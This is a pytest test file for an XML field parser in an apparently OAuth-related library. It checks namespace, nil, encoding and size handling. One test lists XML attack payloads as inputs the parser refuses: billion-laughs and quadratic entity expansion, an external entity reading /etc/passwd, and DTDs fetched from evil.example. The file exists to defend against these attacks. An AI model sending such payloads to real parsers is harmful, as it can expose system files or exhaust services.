from time import process_time

import pytest

from oauthkit.protocol.xml_fields import xml_fields

NIL = 'xmlns:i="http://www.w3.org/2001/XMLSchema-instance"'


def test_the_children_of_the_root_are_fields() -> None:
    document = f"""<?xml version="1.0" encoding="utf-8"?>
    <AccessTokenResponse {NIL} xmlns="urn:x">
      <access_token>a&amp;b&#60;&#xe4;</access_token><ip i:nil="true"/><empty/>
      <expires_in>3600</expires_in><scope><![CDATA[a <b>]]></scope>
    </AccessTokenResponse>"""

    assert xml_fields(document.encode()) == {
        "access_token": "a&b<ä",
        "empty": "",
        "expires_in": "3600",
        "scope": "a <b>",
    }


def test_nested_elements_are_nested_fields() -> None:
    assert xml_fields(b"<r>x<user> <id>1</id><a><b>2</b></a></user></r>") == {
        "user": {"id": "1", "a": {"b": "2"}}
    }


@pytest.mark.parametrize(
    "nil, found", [("true", {}), ("1", {}), (" true ", {}), ("false", {"a": ""})]
)
def test_an_element_with_nil_is_absent(nil: str, found: dict[str, str]) -> None:
    """System D writes absent texts so."""
    assert xml_fields(f'<r {NIL}><a i:nil="{nil}"/></r>'.encode()) == found


def test_nil_of_another_namespace_means_nothing() -> None:
    assert xml_fields(b'<r xmlns:i="urn:other"><a nil="true" i:nil="true">x</a></r>') == {"a": "x"}


def test_names_lose_their_namespace() -> None:
    assert xml_fields(b'<x:r xmlns:x="urn:x"><x:a>1</x:a></x:r>') == {"a": "1"}


def test_a_byte_order_mark_is_passed_over() -> None:
    """AT-58."""
    assert xml_fields(b"\xef\xbb\xbf<r><a>1</a></r>") == {"a": "1"}


@pytest.mark.parametrize("name", ["a", "x:a"])
def test_an_element_that_stands_there_twice_is_refused(name: str) -> None:
    """AT-54."""
    document = f'<r xmlns:x="urn:x"><a>1</a><{name}>2</{name}></r>'

    with pytest.raises(ValueError, match="twice"):
        xml_fields(document.encode())


def attributes(count: int) -> str:
    return " ".join(f"a{n}=''" for n in range(count))


def children(count: int) -> str:
    return "".join(f"<b{n}/>" for n in range(count))


def entity(name: str, text: str) -> str:
    return f"<!ENTITY {name} '{text}'>"


def laughs(depth: int) -> str:
    first = entity("l0", "lol")
    return first + "".join(entity(f"l{n}", 10 * f"&l{n - 1};") for n in range(1, depth))


BILLION_LAUGHS = laughs(10)
QUADRATIC = entity("a", 50_000 * "a")


@pytest.mark.parametrize(
    "document",
    [
        f"<!DOCTYPE r [{BILLION_LAUGHS}]><r><a>&l9;</a></r>",
        f"<!DOCTYPE r [{QUADRATIC}]><r><a>{'&a;' * 50_000}</a></r>",
        '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r><a>&x;</a></r>',
        '<!DOCTYPE r [<!ENTITY % x SYSTEM "https://evil.example/x"> %x;]><r/>',
        '<!DOCTYPE r SYSTEM "https://evil.example/r.dtd"><r/>',
        '<!DOCTYPE r PUBLIC "-//x" "https://evil.example/r.dtd"><r><a>1</a></r>',
        '<!DOCTYPE r [<!ATTLIST r a CDATA "1">]><r/>',
        "<!DOCTYPE html><html><body>Log in</body></html>",
    ],
    ids=["laughs", "quadratic", "file", "parameter", "dtd", "public", "attlist", "html"],
)
def test_a_document_type_is_refused_before_any_of_it_is_read(document: str) -> None:
    """AT-60: hence there is no entity, and nothing to fetch."""
    started = process_time()

    with pytest.raises(ValueError, match="document type"):
        xml_fields(document.encode())

    assert process_time() - started < 3.0


@pytest.mark.parametrize(
    "document, reason",
    [
        ("<a>" * 33, "too deeply"),
        ("<a>" * 87_381, "too deeply"),
        ("<a>" * 1_000_000, "256 KiB"),
        (f"<r>{children(10_000)}</r>", "too many elements"),
        (f"<r {attributes(65)}/>", "too many attributes"),
        (f"<r {attributes(20_000)}/>", "too many attributes"),
        (f"<r {attributes(100_000)}/>", "256 KiB"),
        (f"<r {'x' * 262_140}", "unclosed token"),
        (f"<r><a>{'x' * 1_048_576}</a></r>", "256 KiB"),
        (f"<{'a:' * 100_000}a/>", "not well-formed"),
        ("<r>&#0;</r>", "invalid character"),
        ("<r>&nbsp;</r>", "undefined entity"),
        ("<r><a></r>", "mismatched tag"),
        ("<r/><r/>", "junk after"),
        ("", "no element found"),
        ("text", "syntax error"),
        ('<r a="1" a="2"/>', "duplicate attribute"),
        ("<x:r/>", "unbound prefix"),
        ('<?xml version="1.0" encoding="utf-7"?><r', "unclosed token"),
    ],
    ids=lambda text: f"{text[:16]}…{len(text)}",
)
def test_what_is_out_of_bounds_or_no_xml_is_refused_in_a_moment(document: str, reason: str) -> None:
    """AT-60."""
    started = process_time()

    with pytest.raises(ValueError, match=reason):
        xml_fields(document.encode())

    assert process_time() - started < 3.0


def test_the_bounds_themselves_are_within() -> None:
    deepest = "<a>" * 31 + "</a>" * 31

    assert xml_fields(f"<r>{deepest}</r>".encode())["a"]
    assert len(xml_fields(f"<r>{children(9_999)}</r>".encode())) == 9_999
    assert xml_fields(f"<r {attributes(64)}><b/></r>".encode()) == {"b": ""}


@pytest.mark.parametrize("declared", ["latin-1", "utf-16", "utf-7", "nonsense"])
def test_a_document_is_utf_8_whatever_it_declares(declared: str) -> None:
    """AT-58."""
    document = f'<?xml version="1.0" encoding="{declared}"?><r><a>ä</a></r>'

    assert xml_fields(document.encode()) == {"a": "ä"}


def test_bytes_that_are_not_utf_8_are_refused() -> None:
    """AT-58."""
    with pytest.raises(ValueError, match="invalid token"):
        xml_fields(b"<r><a>\xe4</a></r>")
